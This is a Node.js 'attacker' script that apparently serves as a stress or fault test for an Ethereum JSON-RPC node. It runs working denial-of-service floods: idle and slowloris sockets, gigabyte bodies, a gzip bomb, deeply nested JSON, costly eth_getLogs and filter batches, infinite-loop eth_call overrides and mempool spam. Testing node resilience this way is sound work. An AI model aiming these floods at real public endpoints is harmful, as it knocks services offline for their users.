// A client that means harm, in a process of its own: `attacker.mjs KIND URL ADDRESS…`, until it is killed. It comes from the given local addresses.
// Prints one line of JSON a second: how often it was answered, and how.

import { connect } from 'node:net';
import { request } from 'node:http';
import { gzipSync } from 'node:zlib';
import { HDNodeWallet, parseUnits } from 'ethers';
import { ACCOUNT, CHAIN_ID, MNEMONIC } from '../network.mjs';

const [kind, url, ...addresses] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const IDLE = 10_000;
const SLOW = 1_000;
const BODY_BYTES = 1 << 30;
const PIECE = Buffer.alloc(1 << 20, '[');
const answered = {};
let turn = 0;

const address = () => addresses[turn++ % addresses.length];
const count = (what) => { answered[what] = (answered[what] ?? 0) + 1; };
setInterval(() => console.log(JSON.stringify(answered)), 1_000);

function socket() {
  const made = connect({ host: hostname, port: Number(port), localAddress: address() });
  made.on('connect', () => count('connected')).on('error', () => count('refused')).on('close', () => count('closed'));
  return made.resume();
}

function post(body, headers = {}) {
  return new Promise((resolve) => {
    const options = { host: hostname, port, method: 'POST', localAddress: address(), headers: { 'content-type': 'application/json', 'content-length': body.length, ...headers }, agent: false };
    const asked = request(options, (response) => {
      count(response.statusCode);
      response.resume().on('end', resolve).on('error', resolve);
    });
    asked.on('error', () => { count('broken'); resolve(); }).end(body);
  });
}

/** The same again and again, so many at once. */
function flood(atOnce, ask) {
  const one = async () => { for (;;) await ask(); };
  for (let i = 0; i < atOnce; i += 1) one();
}

const rpc = (method, params) => Buffer.from(JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }));

const KINDS = {
  idle() {
    for (let i = 0; i < IDLE; i += 1) setTimeout(socket, i / 4);
  },
  slow() {
    for (let i = 0; i < SLOW; i += 1) {
      const made = socket();
      made.write('POST / HTTP/1.1\r\nhost: x\r\nx-slow: ');
      const more = setInterval(() => made.write('x'), 1_000);
      made.on('close', () => clearInterval(more));
    }
  },
  bodies() {
    flood(20, () => new Promise((resolve) => {
      const asked = request({ host: hostname, port, method: 'POST', localAddress: address(), headers: { 'content-length': BODY_BYTES }, agent: false });
      let left = BODY_BYTES;
      const more = () => {
        if (left <= 0 || asked.destroyed) return;
        left -= PIECE.length;
        asked.write(PIECE, more);
      };
      asked.on('response', (response) => { count(response.statusCode); asked.destroy(); }).on('error', () => count('broken')).on('close', resolve);
      more();
    }));
  },
  zip() {
    const bomb = gzipSync(Buffer.alloc(512 << 20, '['));
    flood(10, () => post(bomb, { 'content-encoding': 'gzip' }));
  },
  deep() {
    const deep = Buffer.from(`${'['.repeat(500_000)}${']'.repeat(500_000)}`);
    flood(20, () => post(deep));
  },
  batches() {
    const all = Array.from({ length: 1_000 }, (_, id) => ({ jsonrpc: '2.0', id, method: 'eth_getLogs', params: [{ fromBlock: '0x0', toBlock: 'latest' }] }));
    const batch = Buffer.from(JSON.stringify(all));
    flood(10, () => post(batch));
  },
  filters() {
    const all = Array.from({ length: 1_000 }, (_, id) => ({ jsonrpc: '2.0', id, method: 'eth_newFilter', params: [{ fromBlock: '0x0', topics: [[], []] }] }));
    const batch = Buffer.from(JSON.stringify(all));
    flood(10, () => post(batch));
  },
  calls() {
    // JUMPDEST, and back to it, until the gas is gone.
    const to = `0x${'c0'.repeat(20)}`;
    const loops = rpc('eth_call', [{ to, gas: '0x7fffffffffff' }, 'latest', { [to]: { code: '0x5b600056' } }]);
    flood(50, () => post(loops));
  },
  async pool() {
    const rich = HDNodeWallet.fromPhrase(MNEMONIC, '', `m/44'/60'/0'/0/${ACCOUNT.faults}`);
    const fees = { type: 2, chainId: CHAIN_ID, gasLimit: 21_000n, maxFeePerGas: parseUnits('1000', 'gwei'), maxPriorityFeePerGas: 1n };
    // Behind gaps, so that none of them can ever be executed.
    const raws = await Promise.all(Array.from({ length: 400 }, (_, i) => rich.signTransaction({ ...fees, nonce: 1_000_000 + 2 * i, to: rich.address })));
    const batch = Buffer.from(JSON.stringify(raws.map((raw, id) => ({ jsonrpc: '2.0', id, method: 'eth_sendRawTransaction', params: [raw] }))));
    flood(10, () => post(batch));
  },
};

await KINDS[kind]();
